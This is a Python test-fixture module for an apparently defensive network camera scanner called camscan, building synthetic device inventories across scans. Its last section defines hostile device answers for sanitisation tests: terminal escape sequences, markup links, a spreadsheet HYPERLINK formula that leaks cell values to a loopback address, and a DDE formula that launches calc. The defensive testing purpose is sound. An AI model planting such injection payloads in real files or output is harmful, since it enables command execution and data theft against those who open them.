"""Inventories built through the real identifier and store, shared by the history, report and datasette tests."""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

from camscan.fingerprint.identify import Identifier
from camscan.model import Device, Finding, Observation, Service
from camscan.store import Store

IDENTIFIER = Identifier()
T0 = datetime(2026, 11, 29, 8, 0, 0, tzinfo=timezone.utc)


class Clock:
    def __init__(self, start: datetime = T0) -> None:
        self.now = start

    def __call__(self) -> datetime:
        return self.now

    def advance(self, **delta: float) -> None:
        self.now += timedelta(**delta)


# name -> (mac, what the device answers: (field, value, port))
DEVICES = {
    "lorex-nvr": ("00:1f:54:10:20:30", [("rtsp.server", "Dahua Rtsp Server", 554), ("rtsp.status", "200 DESCRIBE", 554),
                                        ("http.status", "200 /", 80)]),
    "hikvision-cam": ("44:19:b6:01:02:03", [("http.server", "App-webs/", 80), ("http.status", "200 /", 80),
                                            ("rtsp.status", "401 DESCRIBE", 554)]),
    "lts-cam": ("14:2f:fd:0a:0b:0c", [("http.server", "App-webs/", 80), ("http.status", "200 /", 80)]),
    "avigilon-cam": ("00:18:85:11:22:33", [("rtsp.server", "AvigilonOnvifNvt/4.10.0.46", 554),
                                           ("rtsp.status", "401 DESCRIBE", 554)]),
    "avigilon-cam-reflashed": ("00:18:85:11:22:33", [("rtsp.server", "AvigilonOnvifNvt/4.12.0.60", 554),
                                                     ("rtsp.status", "401 DESCRIBE", 554)]),
    "mystery-cam": (None, [("html.title", "IPCam Client", 80), ("rtsp.status", "401 DESCRIBE", 554)]),
    "printer": ("9c:7b:ef:00:00:01", [("http.server", "HP HTTP Server; HP LaserJet Pro M404dn - W1A53A; Serial Number: PHBBB00000; Built: Thu Dec 02, 2021 09:09:28 {002_2149A}", 80),
                                      ("http.status", "200 /", 80)]),
}


def device(name: str, ip: str, mac: str | None = "default", extra: list[tuple[str, str, int]] = ()) -> Device:
    """A device as the scanner would hand it to the store, identified by the real identifier."""
    default_mac, answers = DEVICES[name]
    mac = default_mac if mac == "default" else mac
    observations = [Observation(ip, field.split(".")[0], field, value, port) for field, value, port in [*answers, *extra]]
    if mac:
        observations.append(Observation(ip, "arp", "mac.address", mac, None, transport="l2"))
    ports = sorted({port for _, _, port in answers})
    services = [Service(ip, port, "rtsp" if port == 554 else "http") for port in ports]
    return Device(ip=ip, mac=mac, mac_seen=bool(mac), services=services, observations=observations,
                  identification=IDENTIFIER.identify(observations))


def scan(store: Store, clock: Clock, devices: list[Device], site: str | None = None,
         targets: tuple[str, ...] = ("198.18.0.0/24",)) -> int:
    """One complete scan recording ``devices``; the clock moves a minute."""
    scan_id = store.start_scan(list(targets), {"ports": [80, 554], "rate": 100.0, "timeout": 2.0}, site=site)
    for item in devices:
        store.record_observations(scan_id, item.observations)
        store.record_device(scan_id, item)
    store.finish_scan(scan_id)
    clock.advance(minutes=1)
    return scan_id


def school(path: Path, clock: Clock | None = None, site: str | None = "School A") -> tuple[Store, Clock, list[int]]:
    """Two scans of one site: between them a device left, one arrived, one moved and one was re-flashed."""
    clock = clock or Clock()
    store = Store(path, clock=clock)
    first = scan(store, clock, [
        device("lorex-nvr", "198.18.0.10"), device("hikvision-cam", "198.18.0.11"),
        device("avigilon-cam", "198.18.0.12"), device("printer", "198.18.0.13"),
        device("mystery-cam", "198.18.0.14"),
    ], site=site)
    second = scan(store, clock, [
        device("lorex-nvr", "198.18.0.10"), device("hikvision-cam", "198.18.0.21"),      # moved
        device("avigilon-cam-reflashed", "198.18.0.12"),                                # re-flashed
        device("mystery-cam", "198.18.0.14"), device("lts-cam", "198.18.0.15"),          # new; printer gone
    ], site=site)
    return store, clock, [first, second]


# What a hostile device (or a crafted capture or report) can make camscan store: terminal
# escape sequences, rich markup and spreadsheet formulas. Every address in them is on loopback.
WINDOW_TITLE = "\x1b]0;camscan-owned\x07"
HYPERLINK = "\x1b]8;;http://127.0.0.1:9/update\x1b\\Update\x1b]8;;\x1b\\"
CLEAR_SCREEN = "\x1b[2J\x1b[H"
C1_CLEAR_SCREEN = "\x9b2J"
RIGHT_TO_LEFT = "\u202e"
MARKUP_MODEL = "IPC-HDW1431T[/x]"
LINK_MARKUP = "[link=http://127.0.0.1:9/]Firmware update[/link]"
BLINK_MARKUP = "[blink]School A[/blink]"
HYPERLINK_FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A2&B2,"Update")'
DDE_FORMULA = "+cmd|' /C calc'!A0"


def hostile_inventory(path: Path) -> Store:
    """One scan of one camera whose every answer tries to take over a terminal, rich or a spreadsheet."""
    clock = Clock()
    store = Store(path, clock=clock)
    camera = device("hikvision-cam", "198.18.0.66", extra=[("html.title", WINDOW_TITLE + LINK_MARKUP, 80)])
    camera.identification.model = MARKUP_MODEL + WINDOW_TITLE
    camera.identification.firmware = HYPERLINK_FORMULA + CLEAR_SCREEN
    camera.identification.manufacturer = DDE_FORMULA
    camera.identification.device_type = "ip-camera" + C1_CLEAR_SCREEN
    camera.services[0] = replace(camera.services[0], banner=CLEAR_SCREEN + LINK_MARKUP)
    scan_id = store.start_scan([f"198.18.0.66{HYPERLINK}"], {"ports": [80]}, site=BLINK_MARKUP + RIGHT_TO_LEFT)
    store.record_observations(scan_id, camera.observations)
    device_id = store.record_device(scan_id, camera)
    exposure = Finding("http-anonymous", "high", LINK_MARKUP + HYPERLINK + WINDOW_TITLE, 80)
    store.record_findings(scan_id, device_id, [exposure])
    store.finish_scan(scan_id)
    return store
